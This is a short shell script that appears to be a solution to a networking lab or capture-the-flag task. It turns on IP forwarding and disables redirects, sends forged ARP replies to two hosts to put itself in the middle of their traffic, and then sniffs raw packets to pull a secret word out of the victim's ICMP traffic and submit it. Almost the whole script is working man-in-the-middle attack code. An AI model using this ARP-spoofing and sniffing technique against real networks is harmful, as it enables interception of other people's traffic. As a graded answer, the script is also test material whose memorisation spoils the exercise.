#!/bin/sh
# Route first, and silently; then claim each end's address toward the other; then read along.
attacker sysctl -qw net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
attacker sysctl -qw net.ipv4.ip_forward=1
me=00:00:5e:00:53:02
attacker frame "arp.reply('192.0.2.3', lladdr='$me', receiver='192.0.2.1', receiver_lladdr='00:00:5e:00:53:01')"
attacker frame "arp.reply('192.0.2.1', lladdr='$me', receiver='192.0.2.3', receiver_lladdr='00:00:5e:00:53:03')"
answer word "$(attacker python3 -c '
import re
import socket

wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
while True:
    packet = wire.recv(2048)
    if packet[23] == 1 and packet[26:30] == bytes([192, 0, 2, 1]):  # ICMP of the victim
        print(re.search(rb"([a-z-]{6,}) \1", packet)[1].decode())
        break
')"
